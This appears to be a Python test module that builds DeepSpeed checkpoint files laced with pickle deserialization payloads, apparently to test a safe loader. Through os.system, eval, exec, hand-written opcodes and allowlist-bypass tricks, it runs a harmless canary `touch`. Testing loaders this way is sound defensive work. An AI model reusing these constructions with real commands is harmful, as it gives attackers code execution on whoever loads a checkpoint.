"""Files in place of a checkpoint's own that write a canary when they are opened with every call allowed.

Each takes the path of such a file and the path of the canary.
"""

import builtins
import importlib
import io
import operator
import os
import pathlib
import pickle
import subprocess
import tarfile
import zipfile
from collections import OrderedDict

import torch
from deepspeed.runtime.fp16.loss_scaler import LossScaler
from deepspeed.runtime.zero.config import ZeroStageEnum


class Calls:
    """Pickled as a call."""

    def __init__(self, function, *arguments):
        self.reduced = (function, arguments)

    def __reduce__(self):
        return self.reduced

    def __call__(self):
        raise AssertionError("only its pickle is called")


class TensorThatCalls(torch.Tensor):
    """Pickled as a tensor whose rebuilding is the call."""

    def __reduce_ex__(self, protocol):
        return torch._tensor._rebuild_from_type_v2, (os.system, torch.Tensor, (self.command,), {"a": 1})


def touch(canary):
    return f"touch {canary}"


def content_of(path):
    return torch.load(path, weights_only=False)


def planted(make, *, protocol=2, legacy=False):
    """The rank's own content with the payload as one more entry."""

    def write(path, canary):
        content = {**content_of(path), "lr_scheduler": make(canary)}
        torch.save(content, path, pickle_protocol=protocol, _use_new_zipfile_serialization=not legacy)

    return write


def deep(path, canary):
    """Among the shapes, or among the masters: what the reader looks at."""
    content, bad = content_of(path), Calls(os.system, touch(canary))
    if "param_shapes" in content:
        group = content["param_shapes"][0]
        content["param_shapes"][0] = OrderedDict([*group.items(), ("x", OrderedDict(y=[(bad,)]))])
    else:
        content["optimizer_state_dict"]["fp32_flat_groups"].append(bad)
    torch.save(content, path)


def tensor_like(canary):
    tensor = torch.zeros(2).as_subclass(TensorThatCalls)
    tensor.command = touch(canary)
    return tensor


def attribute_of_an_ordered_dict(canary):
    mapping = OrderedDict(a=1)
    mapping.values = Calls(os.system, touch(canary))
    return mapping


def state_of_an_allowed_class(canary):
    scaler = LossScaler(1.0)
    scaler.__dict__["__setstate__"] = scaler.__dict__["__reduce__"] = Calls(os.system, touch(canary))
    return scaler


def with_pickle(pickled):
    """The rank's own archive around a pickle written by hand."""

    def write(path, canary):
        with zipfile.ZipFile(path) as archive:
            records = {name: archive.read(name) for name in archive.namelist()}
        with zipfile.ZipFile(path, "w") as archive:
            for name, data in records.items():
                archive.writestr(name, pickled(canary) if name.endswith("/data.pkl") else data)

    return write


def text(value):
    return b"X" + len(value).to_bytes(4, "little") + value.encode()


def in_a_storage_id(canary):
    return b"\x80\x02" + text("storage") + b"cos\nsystem\n" + text(touch(canary)) + b"\x85R\x86Q."


def with_inst(canary):
    return b"(S'" + touch(canary).encode() + b"'\nios\nsystem\n."


def under_the_name_of_an_allowed_class(canary):
    return (
        b"\x80\x02cdeepspeed.runtime.fp16.loss_scaler\nLossScaler\ncbuiltins\neval\n"
        + text(f"open({str(canary)!r}, 'w')")
        + b"\x85R\x85R."
    )


def plain_pickle(path, canary):
    path.write_bytes(pickle.dumps(Calls(os.system, touch(canary)), protocol=2))


def legacy_tar(path, canary):
    with tarfile.open(path, "w:", format=tarfile.PAX_FORMAT) as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            data = pickle.dumps(Calls(os.system, touch(canary)), protocol=2)
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))


def system_by_getattr(canary):
    return Calls(Calls(getattr, Calls(importlib.import_module, "os"), "system"), touch(canary))


def downloaded(canary):
    source = canary.with_suffix(".source")
    source.write_text("x")
    return Calls(torch.hub.download_url_to_file, source.as_uri(), str(canary), None, False)


PAYLOADS = {
    "os.system": planted(lambda canary: Calls(os.system, touch(canary))),
    "subprocess.Popen": planted(lambda canary: Calls(subprocess.Popen, ["touch", str(canary)])),
    "subprocess.check_output": planted(lambda canary: Calls(subprocess.check_output, ["touch", str(canary)])),
    "exec": planted(lambda canary: Calls(builtins.exec, f"open({str(canary)!r}, 'w')")),
    "eval": planted(lambda canary: Calls(builtins.eval, f"open({str(canary)!r}, 'w')")),
    "open": planted(lambda canary: Calls(open, str(canary), "w")),
    "methodcaller": planted(lambda canary: Calls(operator.methodcaller("touch"), pathlib.Path(canary))),
    "getattr of a module": planted(system_by_getattr),
    "torch.hub": planted(downloaded),
    "torch.save": planted(lambda canary: Calls(torch.save, 1, str(canary))),
    "deep inside": deep,
    "a tensor's rebuilding": planted(tensor_like),
    "an OrderedDict's attribute": planted(attribute_of_an_ordered_dict),
    "an allowed class's state": planted(state_of_an_allowed_class),
    "an allowed class's argument": planted(lambda canary: Calls(ZeroStageEnum, Calls(os.system, touch(canary)))),
    "an allowed class, then eval": with_pickle(under_the_name_of_an_allowed_class),
    "a storage's identity": with_pickle(in_a_storage_id),
    "the opcode INST": with_pickle(with_inst),
    "pickle protocol 4": planted(lambda canary: Calls(os.system, touch(canary)), protocol=4),
    "legacy format": planted(lambda canary: Calls(os.system, touch(canary)), legacy=True),
    "legacy tar": legacy_tar,
    "plain pickle": plain_pickle,
}
